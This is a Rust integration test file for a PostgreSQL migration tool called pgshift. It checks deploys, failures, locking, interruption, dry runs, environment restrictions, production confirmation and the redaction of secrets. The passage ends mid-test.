//! `pgshift migrate`, `status`, `history` against a real PostgreSQL: the cases users hit.

use std::process::Stdio;
use std::time::{Duration, Instant};

use predicates::prelude::*;
use predicates::str::contains;
use tempfile::TempDir;

use crate::common::*;

#[test]
fn clean_deploy_then_a_rerun_that_does_nothing() {
    let (dir, db) = project(&[
        (
            "2026-01-01_users",
            "CREATE TABLE users (id int PRIMARY KEY);\n",
        ),
        (
            "2026-01-02_posts",
            "CREATE TABLE posts (id int PRIMARY KEY, user_id int REFERENCES users);\n",
        ),
    ]);
    pgshift(dir.path(), &db)
        .arg("migrate")
        .assert()
        .success()
        .stdout(contains("2 migration(s) to apply:"))
        .stdout(contains("✓ 2026-01-01_users"))
        .stdout(contains("Applied 2 migration(s)"));
    assert_eq!(
        sql(&db, "SELECT count(*) FROM schema_migrations WHERE success"),
        "2"
    );
    assert_eq!(
        sql(
            &db,
            "SELECT count(*) FROM schema_migrations_events WHERE event = 'applied'"
        ),
        "2"
    );
    assert_eq!(sql(&db, "SELECT to_regclass('posts') IS NOT NULL"), "t");
    pgshift(dir.path(), &db)
        .arg("deploy")
        .assert()
        .success()
        .stdout(contains("Nothing to do"));
    assert_eq!(
        sql(
            &db,
            "SELECT count(*) FROM schema_migrations_events WHERE event = 'applied'"
        ),
        "2"
    );
    // The tracking tables are closed to an API: RLS on, nothing granted to PUBLIC.
    assert_eq!(sql(&db, "SELECT bool_and(relrowsecurity) FROM pg_class WHERE relname IN ('schema_migrations', 'schema_migrations_events', 'schema_migrations_meta')"), "t");
    assert_eq!(sql(&db, "SELECT count(*) FROM information_schema.role_table_grants WHERE table_name LIKE 'schema_migrations%' AND grantee = 'PUBLIC'"), "0");
    assert_eq!(
        sql(
            &db,
            "SELECT value FROM schema_migrations_meta WHERE key = 'layout_version'"
        ),
        pgshift::db::tracking::LAYOUT_VERSION.to_string()
    );
    // The event log is append-only.
    assert!(cluster()
        .psql(&db, "DELETE FROM schema_migrations_events")
        .is_err());
    pgshift(dir.path(), &db)
        .arg("status")
        .assert()
        .success()
        .stdout(contains("2 applied, 0 pending, 0 failed"));
    pgshift(dir.path(), &db)
        .args(["history", "--limit", "1"])
        .assert()
        .success()
        .stdout(contains("2026-01-02_posts").and(contains("2026-01-01_users").not()));
    let json = pgshift(dir.path(), &db)
        .args(["--json", "history"])
        .assert()
        .success();
    let v: serde_json::Value = serde_json::from_slice(&json.get_output().stdout).unwrap();
    assert_eq!(v[0]["version"], "2026-01-02_posts");
}

#[test]
fn a_failing_migration_in_the_middle_stops_the_run_and_is_recorded_with_its_place() {
    let (dir, db) = project(&[
        ("2026-01-01_a", "CREATE TABLE a (id int);\n"),
        (
            "2026-01-02_b",
            "CREATE TABLE b (id int);\nINSERT INTO missing_table VALUES (1);\n",
        ),
        ("2026-01-03_c", "CREATE TABLE c (id int);\n"),
    ]);
    pgshift(dir.path(), &db)
        .arg("migrate")
        .assert()
        .code(1)
        .stdout(contains("✓ 2026-01-01_a"))
        .stdout(contains("✗ 2026-01-02_b"))
        .stderr(contains("error: 2026-01-02_b failed: relation \"missing_table\" does not exist [SQLSTATE 42P01]"))
        .stderr(contains("--> migrations/2026-01-02_b.sql:6:13"))
        .stderr(contains("help: nothing of 2026-01-02_b was kept (its transaction was rolled back)"));
    assert_eq!(sql(&db, "SELECT to_regclass('a') IS NOT NULL, to_regclass('b') IS NULL, to_regclass('c') IS NULL"), "t|t|t");
    assert_eq!(
        sql(&db, "SELECT success, sqlstate, error_position FROM schema_migrations WHERE version = '2026-01-02_b'"),
        "f|42P01|migrations/2026-01-02_b.sql:6:13"
    );
    pgshift(dir.path(), &db)
        .arg("status")
        .assert()
        .success()
        .stdout(contains("FAILED"));
    write(&dir, "2026-01-02_b", "CREATE TABLE b (id int);\n");
    pgshift(dir.path(), &db)
        .arg("migrate")
        .assert()
        .success()
        .stdout(contains("2 migration(s) to apply"));
    assert_eq!(
        sql(&db, "SELECT count(*) FROM schema_migrations WHERE success"),
        "3"
    );
    assert_eq!(
        sql(
            &db,
            "SELECT string_agg(event, ',' ORDER BY id) FROM schema_migrations_events"
        ),
        "backup,applied,failed,backup,applied,applied"
    );
}

#[test]
fn four_deployers_at_once_apply_each_migration_exactly_once() {
    let files: Vec<(String, String)> = (1..=12)
        .map(|i| {
            (
                format!("2026-02-{i:02}_m"),
                format!("CREATE TABLE m{i} (id int);\nSELECT pg_sleep(0.02);\n"),
            )
        })
        .collect();
    let refs: Vec<(&str, &str)> = files
        .iter()
        .map(|(a, b)| (a.as_str(), b.as_str()))
        .collect();
    let (dir, db) = project(&refs);
    let children: Vec<_> = (0..4)
        .map(|_| {
            spawn_pgshift(
                dir.path(),
                &cluster().url(&db),
                &["migrate", "--lock-timeout", "60"],
            )
        })
        .collect();
    for c in children {
        let out = c.wait_with_output().unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    assert_eq!(sql(&db, "SELECT count(*), count(DISTINCT version) FROM schema_migrations_events WHERE event = 'applied'"), "12|12");
}

#[test]
fn a_second_deployer_gives_up_after_the_lock_timeout_naming_the_holder() {
    let (dir, db) = project(&[("2026-01-01_slow", "SELECT pg_sleep(:secs);\n")]);
    let mut first = pgshift_std(dir.path())
        .env("DATABASE_URL", cluster().url(&db))
        .args(["migrate", "--var", "secs=4"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    wait_for(&db, "SELECT count(*) FROM pg_stat_activity WHERE query LIKE '%pg_sleep%' AND state = 'active' AND application_name LIKE 'pgshift[%' AND datname = current_database()");
    pgshift(dir.path(), &db)
        .args(["migrate", "--lock-timeout", "1", "--var", "secs=0"])
        .assert()
        .code(2)
        .stdout(contains("Waiting for the deploy lock, held by pgshift pid"))
        .stderr(contains(
            "another deploy holds the lock on public.schema_migrations: pgshift pid",
        ))
        .stderr(contains("at 2026-01-01_slow (1/1); server process"))
        .stderr(contains(
            "user postgres, from local socket, connected since",
        ));
    assert!(first.wait().unwrap().success());
}

fn long_running(dir: &TempDir, db: &str) -> std::process::Child {
    let child = spawn_pgshift(
        dir.path(),
        &cluster().url(db),
        &["migrate", "--var", "secs=30"],
    );
    wait_for(db, "SELECT count(*) FROM pg_stat_activity WHERE query LIKE '%pg_sleep%' AND state = 'active' AND application_name LIKE 'pgshift[%' AND datname = current_database()");
    child
}

#[test]
fn a_killed_client_leaves_no_record_and_no_partial_schema() {
    let (dir, db) = project(&[(
        "2026-01-01_long",
        "CREATE TABLE half_done (id int);\nSELECT pg_sleep(:secs);\n",
    )]);
    let mut child = long_running(&dir, &db);
    child.kill().unwrap(); // SIGKILL: nothing of pgshift runs
    child.wait().unwrap();
    // The server notices the lost client and rolls the transaction back.
    let deadline = Instant::now() + Duration::from_secs(20);
    while sql(&db, "SELECT count(*) FROM pg_stat_activity WHERE application_name LIKE 'pgshift[%' AND datname = current_database() AND pid <> pg_backend_pid()") != "0" {
        assert!(Instant::now() < deadline, "the backend of the killed client is still running");
        std::thread::sleep(Duration::from_millis(50));
    }
    assert_eq!(sql(&db, "SELECT count(*) FROM schema_migrations"), "0");
    assert_eq!(sql(&db, "SELECT to_regclass('half_done') IS NULL"), "t");
    pgshift(dir.path(), &db)
        .args(["migrate", "--var", "secs=0"])
        .assert()
        .success()
        .stdout(contains("✓ 2026-01-01_long"));
}

/// Sends `signal` to a deploy in the middle of a long migration; checks it cancelled, rolled
/// back, recorded the interruption and exited 130. Returns the database and the project.
fn interrupt_with(signal: i32) -> (String, TempDir) {
    let (dir, db) = project(&[(
        "2026-01-01_long",
        "CREATE TABLE half_done (id int);\nSELECT pg_sleep(:secs);\n",
    )]);
    let child = long_running(&dir, &db);
    unsafe { libc_kill(child.id() as i32, signal) };
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).to_string();
    assert_eq!(out.status.code(), Some(130), "{stderr}");
    assert!(
        stderr.contains("interrupted (SIGINT/SIGTERM)"),
        "{stderr}\n{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert_eq!(sql(&db, "SELECT to_regclass('half_done') IS NULL"), "t");
    assert_eq!(
        sql(
            &db,
            "SELECT string_agg(event, ',' ORDER BY id) FROM schema_migrations_events"
        ),
        "backup,interrupted"
    );
    (db, dir)
}

#[test]
fn sigint_cancels_rolls_back_records_and_exits_130() {
    let (db, dir) = interrupt_with(2);
    // The lock was released: the next deploy runs at once.
    pgshift(dir.path(), &db)
        .args(["migrate", "--var", "secs=0", "--lock-timeout", "1"])
        .assert()
        .success();
}

#[test]
fn sigterm_is_handled_like_sigint() {
    interrupt_with(15);
}

extern "C" {
    #[link_name = "kill"]
    fn libc_kill(pid: i32, sig: i32) -> i32;
}

#[test]
fn a_statement_timeout_fails_the_migration() {
    let (dir, db) = project(&[("2026-01-01_slow", "SELECT pg_sleep(5);\n")]);
    let out = pgshift(dir.path(), &db)
        .env("TIMEOUT", "1")
        .arg("migrate")
        .assert()
        .code(1)
        .stderr(
            contains("canceling statement due to statement timeout")
                .or(contains("ran longer than its timeout")),
        );
    assert_eq!(
        sql(&db, "SELECT success FROM schema_migrations"),
        "f",
        "{}",
        String::from_utf8_lossy(&out.get_output().stderr)
    );
}

#[test]
fn create_index_concurrently_runs_outside_a_transaction_and_resumes_after_a_partial_failure() {
    let (dir, db) = project(&[
        ("2026-01-01_t", "CREATE TABLE t (a int, b int);\nINSERT INTO t VALUES (1, 1), (2, 1);\n"),
        ("2026-01-02_idx", "CREATE INDEX CONCURRENTLY t_a ON t (a);\nCREATE UNIQUE INDEX CONCURRENTLY t_b ON t (b);\n"),
    ]);
    // The help says what ran and stays, what the failure left, and what the rerun does: never
    // "nothing was kept".
    pgshift(dir.path(), &db)
        .arg("migrate")
        .assert()
        .code(1)
        .stderr(contains("could not create unique index"))
        .stderr(contains(
            "statement(s) 1–1 of 2 ran and stay applied; statement 2 failed",
        ))
        .stderr(contains(
            "left the INVALID index \"public\".\"t_b\"; the rerun drops it first",
        ))
        .stderr(contains("it resumes at statement 2"))
        .stderr(contains("nothing of").not());
    assert_eq!(sql(&db, "SELECT success, statements_done FROM schema_migrations WHERE version = '2026-01-02_idx'"), "f|1");
    assert_eq!(
        sql(
            &db,
            "SELECT indisvalid FROM pg_index WHERE indexrelid = 't_b'::regclass"
        ),
        "f"
    );
    pgshift(dir.path(), &db)
        .arg("status")
        .assert()
        .success()
        .stdout(contains("PARTIAL"))
        .stdout(contains(
            "1 statement(s) ran and stay; the next migrate resumes after them",
        ));
    cluster().psql(&db, "UPDATE t SET b = a").unwrap();
    pgshift(dir.path(), &db)
        .arg("migrate")
        .assert()
        .success()
        .stdout(contains("dropped the invalid index \"public\".\"t_b\""))
        .stdout(contains("resuming at statement 2"));
    assert_eq!(sql(&db, "SELECT count(*) FROM pg_index WHERE indexrelid IN ('t_a'::regclass, 't_b'::regclass) AND indisvalid"), "2");
}

#[test]
fn files_with_their_own_transaction_run_as_written() {
    let (dir, db) = project(&[(
        "2026-01-01_own",
        "BEGIN;\nCREATE TABLE own (id int);\nCOMMIT;\n",
    )]);
    pgshift(dir.path(), &db).arg("migrate").assert().success();
    assert_eq!(sql(&db, "SELECT success FROM schema_migrations"), "t");
    assert_eq!(sql(&db, "SELECT to_regclass('own') IS NOT NULL"), "t");
    // A failure after its own COMMIT: what was committed stays, and the help says so.
    write(
        &dir,
        "2026-01-02_own",
        "BEGIN;\nCREATE TABLE kept (id int);\nCOMMIT;\nBEGIN;\nCREATE TABLE lost (id int);\nSELECT 1/0;\nCOMMIT;\n",
    );
    pgshift(dir.path(), &db)
        .arg("migrate")
        .assert()
        .code(1)
        .stderr(contains(
            "controls its own transactions: what it committed before statement 6 stays applied",
        ));
    assert_eq!(
        sql(
            &db,
            "SELECT to_regclass('kept') IS NOT NULL, to_regclass('lost') IS NULL"
        ),
        "t|t"
    );
}

#[test]
fn an_enum_value_added_in_one_migration_can_be_used_in_the_next() {
    let (dir, db) = project(&[
        (
            "2026-01-01_type",
            "CREATE TYPE mood AS ENUM ('sad');\nCREATE TABLE feelings (m mood);\n",
        ),
        ("2026-01-02_add", "ALTER TYPE mood ADD VALUE 'happy';\n"),
        ("2026-01-03_use", "INSERT INTO feelings VALUES ('happy');\n"),
    ]);
    pgshift(dir.path(), &db)
        .arg("migrate")
        .assert()
        .success()
        .stdout(contains("Applied 3 migration(s)"));
}

#[test]
fn a_changed_applied_file_blocks_the_deploy_and_a_comment_change_does_not() {
    let (dir, db) = project(&[("2026-01-01_a", "CREATE TABLE a (id int);\n")]);
    pgshift(dir.path(), &db).arg("migrate").assert().success();
    write(
        &dir,
        "2026-01-01_a",
        "-- a clarifying comment\nCREATE   TABLE a (id int);\n",
    );
    write(&dir, "2026-01-02_b", "CREATE TABLE b (id int);\n");
    pgshift(dir.path(), &db)
        .arg("migrate")
        .assert()
        .success()
        .stdout(contains(
            "warning: 2026-01-01_a changed in comments or whitespace only",
        ));
    // `status` reads the normalised checksum only for the rows whose checksum differs.
    pgshift(dir.path(), &db)
        .arg("status")
        .assert()
        .success()
        .stdout(contains("(comments/whitespace changed since)"))
        .stdout(contains("2 applied, 0 pending, 0 failed, 0 modified"));
    write(&dir, "2026-01-01_a", "CREATE TABLE a (id bigint);\n");
    write(&dir, "2026-01-03_c", "CREATE TABLE c (id int);\n");
    pgshift(dir.path(), &db)
        .arg("migrate")
        .assert()
        .code(1)
        .stderr(contains(
            "error: applied migrations changed since they ran: 2026-01-01_a",
        ))
        .stderr(contains("pgshift repair"));
    assert_eq!(sql(&db, "SELECT to_regclass('c') IS NULL"), "t");
    pgshift(dir.path(), &db)
        .arg("status")
        .assert()
        .success()
        .stdout(contains("MODIFIED"));
}

#[test]
fn an_unknown_version_in_the_database_is_reported() {
    let (dir, db) = project(&[("2026-01-01_a", "CREATE TABLE a (id int);\n")]);
    pgshift(dir.path(), &db).arg("migrate").assert().success();
    cluster().psql(&db, "INSERT INTO schema_migrations (version, checksum, success, run_id) VALUES ('2025-12-01_gone', 'x', true, 'r')").unwrap();
    pgshift(dir.path(), &db)
        .arg("status")
        .assert()
        .success()
        .stdout(contains("2025-12-01_gone").and(contains("unknown")));
    pgshift(dir.path(), &db)
        .arg("migrate")
        .assert()
        .success()
        .stdout(contains(
            "warning: 2025-12-01_gone is recorded in public.schema_migrations but has no file",
        ));
}

#[test]
fn dry_run_changes_nothing_and_rehearse_reports_locks_then_rolls_back() {
    let (dir, db) = project(&[
        ("2026-01-01_a", "CREATE TABLE a (id int);\n"),
        (
            "2026-01-02_b",
            "ALTER TABLE a ADD COLUMN note text;\nALTER ROLE CURRENT_USER SET work_mem = :'mem';\n",
        ),
    ]);
    pgshift(dir.path(), &db)
        .args(["migrate", "--dry-run", "--var", "mem=8MB"])
        .assert()
        .success()
        .stdout(contains("Dry run: 2 migration(s) would run"))
        .stdout(contains("2026-01-02_b  transaction"))
        .stdout(contains("psql variables used (values not shown): mem"))
        .stdout(contains("8MB").not());
    assert_eq!(
        sql(&db, "SELECT to_regclass('schema_migrations') IS NULL"),
        "t"
    );
    pgshift(dir.path(), &db)
        .args(["migrate", "--dry-run=rehearse", "--var", "mem=8MB"])
        .assert()
        .success()
        .stdout(contains("✓ 2026-01-02_b"))
        .stdout(contains("(rolled back)"))
        // `a` is new in this deploy: locking it blocks nobody.
        .stdout(contains("locks: none on existing tables"))
        .stdout(contains("Rehearsed 2 migration(s) (all rolled back)"));
    assert_eq!(sql(&db, "SELECT to_regclass('a') IS NULL"), "t");
}

/// A lock an earlier migration of the rehearsal took is named where a later one needs it
/// again: the real deploy takes it anew in each migration's transaction.
#[test]
fn a_rehearsal_names_the_lock_an_earlier_migration_already_holds() {
    let (dir, db) = project(&[
        (
            "2026-01-01_a",
            "CREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN new; END $$;\nCREATE TRIGGER touch BEFORE UPDATE ON users FOR EACH ROW EXECUTE FUNCTION touch();\n",
        ),
        (
            "2026-01-02_b",
            "CREATE TRIGGER audit AFTER INSERT ON users FOR EACH ROW EXECUTE FUNCTION touch();\n",
        ),
    ]);
    sql(&db, "CREATE TABLE users (id int PRIMARY KEY)");
    pgshift(dir.path(), &db)
        .args(["migrate", "--dry-run=rehearse"])
        .assert()
        .success()
        .stdout(contains("Rehearsal: each migration runs in a transaction that is rolled back"))
        .stdout(contains("Nothing was changed.").not())
        .stdout(contains("locks public.users SHARE ROW EXCLUSIVE (blocks writes)"))
        .stdout(contains("locks: none on existing tables").not())
        .stdout(contains(
            "locks public.users: already locked by #1 2026-01-01_a in this rehearsal (held: SHARE ROW EXCLUSIVE)",
        ));
}

#[test]
fn target_stops_after_that_version_and_missing_variables_stop_before_anything() {
    let (dir, db) = project(&[
        ("2026-01-01_a", "CREATE TABLE a (id int);\n"),
        ("2026-01-02_b", "CREATE TABLE b (id int);\n"),
        (
            "2026-01-03_c",
            "ALTER ROLE CURRENT_USER SET search_path = :'schema_path';\n",
        ),
    ]);
    pgshift(dir.path(), &db)
        .args(["migrate", "--target", "2026-01-01_a"])
        .assert()
        .success()
        .stdout(contains("1 migration(s) to apply"));
    assert_eq!(sql(&db, "SELECT count(*) FROM schema_migrations"), "1");
    pgshift(dir.path(), &db)
        .arg("migrate")
        .assert()
        .code(1)
        .stderr(contains("nothing was run"))
        .stderr(contains(
            "migrations/2026-01-03_c.sql:5:43: psql variable :schema_path has no value",
        ));
    assert_eq!(sql(&db, "SELECT count(*) FROM schema_migrations"), "1");
}

#[test]
fn connection_errors_are_one_clear_line_without_the_password() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("migrations")).unwrap();
    let c = cluster();
    let cases = [
        (
            format!(
                "postgresql://postgres:wrong-secret@127.0.0.1:{}/postgres?sslmode=disable",
                c.port()
            ),
            "password authentication failed",
        ),
        (
            format!(
                "postgresql://postgres:{}@127.0.0.1:{}/no_such_db?sslmode=disable",
                c.password(),
                c.port()
            ),
            "database \"no_such_db\" does not exist",
        ),
        (
            "postgresql://postgres:wrong-secret@127.0.0.1:1/postgres?sslmode=disable".to_string(),
            "Connection refused",
        ),
        (
            "postgresql://postgres:wrong-secret@no-such-host.invalid/postgres".to_string(),
            "cannot connect to postgres@no-such-host.invalid:5432/postgres",
        ),
    ];
    for (url, expected) in cases {
        let out = pgshift_in(dir.path())
            .env("DATABASE_URL", &url)
            .arg("status")
            .assert()
            .code(2)
            .stderr(contains(expected))
            .stderr(contains("help: "));
        let stderr = String::from_utf8_lossy(&out.get_output().stderr).to_string();
        assert!(
            !stderr.contains("wrong-secret") && !stderr.contains(c.password()),
            "{stderr}"
        );
        assert_eq!(
            stderr.lines().filter(|l| l.starts_with("error:")).count(),
            1,
            "{stderr}"
        );
    }
}

#[test]
fn env_restricted_migrations_run_only_where_they_are_meant_to() {
    let (dir, db) = project(&[
        ("2026-01-01_a", "CREATE TABLE a (id int);\nALTER TABLE a ENABLE ROW LEVEL SECURITY;\nCREATE POLICY p ON a USING (true);\n"),
        ("2026-01-02_seed", "-- @env: development\nINSERT INTO a VALUES (1);\n"),
    ]);
    pgshift(dir.path(), &db)
        .args(["--env", "staging", "migrate", "--confirm", &db])
        .assert()
        .success()
        .stdout(contains("1 migration(s) to apply"));
    assert_eq!(sql(&db, "SELECT count(*) FROM a"), "0");
    pgshift(dir.path(), &db)
        .args(["--env", "staging", "status"])
        .assert()
        .success()
        .stdout(contains("skipped").and(contains("@env excludes this environment")));
    pgshift(dir.path(), &db)
        .args(["--env", "dev", "migrate"])
        .assert()
        .success()
        .stdout(contains("✓ 2026-01-02_seed"));
    assert_eq!(sql(&db, "SELECT count(*) FROM a"), "1");
}

#[test]
fn json_events_debug_timings_and_server_notices() {
    let (dir, db) = project(&[(
        "2026-01-01_a",
        "CREATE TABLE a (id int);\nDO $$ BEGIN RAISE NOTICE 'hello from the migration'; END $$;\n",
    )]);
    let out = pgshift(dir.path(), &db)
        .args(["--json", "migrate"])
        .assert()
        .success();
    let events: Vec<serde_json::Value> = String::from_utf8_lossy(&out.get_output().stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("one JSON object per line"))
        .collect();
    let kinds: Vec<&str> = events
        .iter()
        .map(|e| e["event"].as_str().unwrap())
        .collect();
    assert_eq!(
        kinds,
        [
            "connected",
            "plan",
            "backed_up",
            "applying",
            "notice",
            "applied",
            "done",
            "health"
        ]
    );
    assert_eq!(events[4]["message"], "hello from the migration");
    assert_eq!(events[7]["checks"][0]["id"], "connectivity");
    let (dir2, db2) = project(&[(
        "2026-01-01_a",
        "CREATE TABLE a (id int);\nCREATE INDEX a_id ON a (id);\n",
    )]);
    pgshift(dir2.path(), &db2)
        .env("DEBUG", "true")
        .arg("migrate")
        .assert()
        .success()
        .stderr(contains("[debug]").and(contains("CREATE INDEX a_id ON a (id)")));
    let _ = dir;
}

#[test]
fn postgrest_is_told_to_reload_when_it_serves_the_database() {
    let (dir, db) = project(&[(
        "2026-01-01_a",
        "CREATE TABLE a (id int PRIMARY KEY);\nALTER TABLE a ENABLE ROW LEVEL SECURITY;\nCREATE POLICY p ON a USING (true);\n",
    )]);
    // PostgREST's roles exist on the server (roles are the whole cluster's), but nothing here
    // is granted to them: this database is not served, and not told.
    role("authenticator", "NOLOGIN");
    role("anon", "NOLOGIN");
    pgshift(dir.path(), &db)
        .arg("migrate")
        .assert()
        .success()
        .stdout(contains("NOTIFY").not());
    // Granted here, as every Supabase project grants it: told after a deploy that changed
    // something, not after one that changed nothing.
    sql(&db, "GRANT USAGE ON SCHEMA public TO anon");
    write(&dir, "2026-01-02_b", "CREATE TABLE b (id int PRIMARY KEY);\nALTER TABLE b ENABLE ROW LEVEL SECURITY;\nCREATE POLICY p ON b USING (true);\n");
    pgshift(dir.path(), &db)
        .arg("migrate")
        .assert()
        .success()
        .stdout(contains("Sent NOTIFY pgrst, 'reload schema'"));
    pgshift(dir.path(), &db)
        .arg("migrate")
        .assert()
        .success()
        .stdout(contains("NOTIFY").not());
}

#[test]
fn validation_errors_in_pending_files_stop_the_deploy_before_it_starts() {
    let (dir, db) = project(&[
        ("2026-01-01_a", "CREATE TABLE a (id int);\n"),
        (
            "2026-01-02_b",
            "CREATE USER admin WITH PASSWORD 'secret123';\n",
        ),
    ]);
    pgshift(dir.path(), &db)
        .arg("migrate")
        .assert()
        .code(1)
        .stderr(contains("error[secrets/literal-password]"))
        .stderr(contains(
            "validation found errors in migrations; nothing was run",
        ));
    assert_eq!(sql(&db, "SELECT to_regclass('a') IS NULL"), "t");
}

#[test]
fn no_database_given_says_how_to_give_one() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("migrations")).unwrap();
    pgshift_in(dir.path())
        .arg("migrate")
        .assert()
        .code(2)
        .stderr(contains(
            "error: no database given: set DATABASE_URL, or pass --database-url",
        ));
}

#[test]
fn every_event_and_notice_is_logged_to_the_days_log_file() {
    let (dir, db) = project(&[(
        "2026-01-01_a",
        "CREATE TABLE a (id int);\nDO $$ BEGIN RAISE WARNING 'careful'; END $$;\n",
    )]);
    pgshift(dir.path(), &db)
        .arg("migrate")
        .assert()
        .success()
        .stdout(contains("warning from 2026-01-01_a: careful"));
    let logs: Vec<_> = std::fs::read_dir(dir.path().join("logs"))
        .unwrap()
        .flatten()
        .filter(|e| e.file_name() != ".gitignore")
        .collect();
    assert_eq!(logs.len(), 1);
    assert!(dir.path().join("logs/.gitignore").is_file());
    let name = logs[0].file_name().to_string_lossy().to_string();
    assert!(
        name.starts_with("migration_") && name.ends_with(".log"),
        "{name}"
    );
    let text = std::fs::read_to_string(logs[0].path()).unwrap();
    let events: Vec<serde_json::Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(events.iter().any(|e| e["event"] == "notice"
        && e["message"] == "careful"
        && e["severity"] == "WARNING"));
    assert!(events
        .iter()
        .all(|e| e["at"].as_str().is_some_and(|t| t.ends_with('Z'))));
}

#[test]
fn the_client_deadline_cancels_a_migration_that_lifted_its_statement_timeout() {
    // The file turns the server-side timeout off; pgshift's own deadline still stops it.
    let (dir, db) = project(&[(
        "2026-01-01_slow",
        "SET LOCAL statement_timeout = 0;\nCREATE TABLE half (id int);\nSELECT pg_sleep(30);\n",
    )]);
    let start = Instant::now();
    pgshift(dir.path(), &db)
        .env("TIMEOUT", "1")
        .arg("migrate")
        .assert()
        .code(1)
        .stderr(contains(
            "cancelled: the migration ran longer than its timeout (TIMEOUT)",
        ));
    assert!(start.elapsed() < Duration::from_secs(20));
    assert_eq!(
        sql(
            &db,
            "SELECT string_agg(event, ',' ORDER BY id) FROM schema_migrations_events"
        ),
        "backup,timed_out"
    );
    assert_eq!(sql(&db, "SELECT to_regclass('half') IS NULL"), "t");
}

#[test]
fn a_variables_value_never_reaches_the_output_the_log_or_the_tracking_table() {
    let (dir, db) = project(&[(
        "2026-01-01_a",
        "CREATE TABLE a (n int);\nINSERT INTO a VALUES (:'count_value');\n",
    )]);
    let out = pgshift(dir.path(), &db)
        .env("DEBUG", "1")
        .args(["migrate", "--var", "count_value=hunter2-secret"])
        .assert()
        .code(1)
        .stderr(contains("invalid input syntax for type integer"));
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&out.get_output().stdout),
        String::from_utf8_lossy(&out.get_output().stderr)
    );
    assert!(!all.contains("hunter2"), "{all}");
    assert!(all.contains("***"), "{all}");
    let log = log_file(dir.path());
    assert!(!std::fs::read_to_string(log).unwrap().contains("hunter2"));
    assert_eq!(
        sql(
            &db,
            "SELECT count(*) FROM schema_migrations WHERE error_message LIKE '%hunter2%'"
        ),
        "0"
    );
    assert_eq!(
        sql(
            &db,
            "SELECT count(*) FROM schema_migrations_events WHERE detail::text LIKE '%hunter2%'"
        ),
        "0"
    );
}

#[test]
fn a_partial_run_whose_file_was_fixed_resumes_after_the_statements_that_ran() {
    let (dir, db) = project(&[
        ("2026-01-01_t", "CREATE TABLE t (a int);\n"),
        ("2026-01-02_idx", "CREATE INDEX CONCURRENTLY t_a ON t (a);\nCREATE INDEX CONCURRENTLY t_b ON t (no_such_column);\n"),
    ]);
    pgshift(dir.path(), &db)
        .arg("migrate")
        .assert()
        .code(1)
        .stderr(contains("column \"no_such_column\" does not exist"));
    write(
        &dir,
        "2026-01-02_idx",
        "CREATE INDEX CONCURRENTLY t_a ON t (a);\nCREATE INDEX CONCURRENTLY t_b ON t (a);\n",
    );
    pgshift(dir.path(), &db)
        .arg("migrate")
        .assert()
        .success()
        .stdout(contains(
            "changed since its partial run; its first 1 statement(s) ran as they were then",
        ))
        .stdout(contains("resuming at statement 2"));
    assert_eq!(
        sql(&db, "SELECT count(*) FROM pg_indexes WHERE tablename = 't'"),
        "2"
    );
}

#[test]
fn test_never_deploys_to_the_database_url_of_the_environment() {
    let (dir, db) = project(&[("2026-01-01_a", "CREATE TABLE a (id int);\nALTER TABLE a ENABLE ROW LEVEL SECURITY;\nCREATE POLICY p ON a USING (true);\n")]);
    pgshift(dir.path(), &db)
        .arg("test")
        .assert()
        .success()
        .stdout(contains("Starting a throwaway PostgreSQL"))
        .stdout(contains("0 failed, 1 warning(s)"))
        .stdout(contains("Test passed"));
    // DATABASE_URL pointed at `db`: it was left alone.
    assert_eq!(
        sql(
            &db,
            "SELECT to_regclass('a') IS NULL AND to_regclass('schema_migrations') IS NULL"
        ),
        "t"
    );
    // With --database-url, that database is used.
    pgshift(dir.path(), &db)
        .arg("--database-url")
        .arg(cluster().url(&db))
        .arg("test")
        .assert()
        .success();
    assert_eq!(sql(&db, "SELECT to_regclass('a') IS NOT NULL"), "t");
}

#[test]
fn production_refuses_to_deploy_without_force_run() {
    let (dir, db) = project(&[("2026-01-01_a", "CREATE TABLE a (id int);\nALTER TABLE a ENABLE ROW LEVEL SECURITY;\nCREATE POLICY p ON a USING (true);\n")]);
    pgshift(dir.path(), &db)
        .args(["--env", "production", "migrate"])
        .assert()
        .code(3)
        .stderr(contains("refusing to deploy to production"))
        .stderr(contains("without FORCE_RUN=true"));
    assert_eq!(
        sql(&db, "SELECT to_regclass('schema_migrations') IS NULL"),
        "t"
    );
    pgshift(dir.path(), &db)
        .args(["--env", "production", "migrate", "--dry-run"])
        .assert()
        .success();
    // FORCE_RUN alone is not enough: the database's name must be confirmed too.
    pgshift(dir.path(), &db)
        .env("FORCE_RUN", "true")
        .args(["--env", "prod", "migrate"])
        .assert()
        .code(3)
        .stderr(contains(format!("pass --confirm {db}")));
    pgshift(dir.path(), &db)
        .env("FORCE_RUN", "true")
        .env("CONFIRM", &db)
        .args(["--env", "prod", "migrate"])
        .assert()
        .success();
    assert_eq!(
        sql(&db, "SELECT environment FROM schema_migrations"),
        "production"
    );
}

#[test]
fn a_migration_whose_dependency_is_excluded_by_env_does_not_run() {
    let (dir, db) = project(&[
        ("2026-01-01_fixtures", "-- @env: development\nCREATE TABLE fixtures (id int);\nALTER TABLE fixtures ENABLE ROW LEVEL SECURITY;\nCREATE POLICY p ON fixtures USING (true);\n"),
        ("2026-01-02_uses", "-- @depends-on: 2026-01-01_fixtures.sql\nINSERT INTO fixtures VALUES (1);\n"),
    ]);
    pgshift(dir.path(), &db)
        .args(["--env", "staging", "migrate"])
        .assert()
        .code(1)
        .stderr(contains("dependencies are excluded from staging by @env: 2026-01-02_uses needs 2026-01-01_fixtures"));
}

#[test]
fn the_recorded_time_covers_every_statement_of_a_migration() {
    let (dir, db) = project(&[(
        "2026-01-01_slow",
        "SELECT pg_sleep(0.4);\nCREATE TABLE t (id int);\nSELECT 1;\n",
    )]);
    pgshift(dir.path(), &db).arg("migrate").assert().success();
    let ms: i64 = sql(&db, "SELECT execution_time_ms FROM schema_migrations")
        .parse()
        .unwrap();
    assert!(
        ms >= 400,
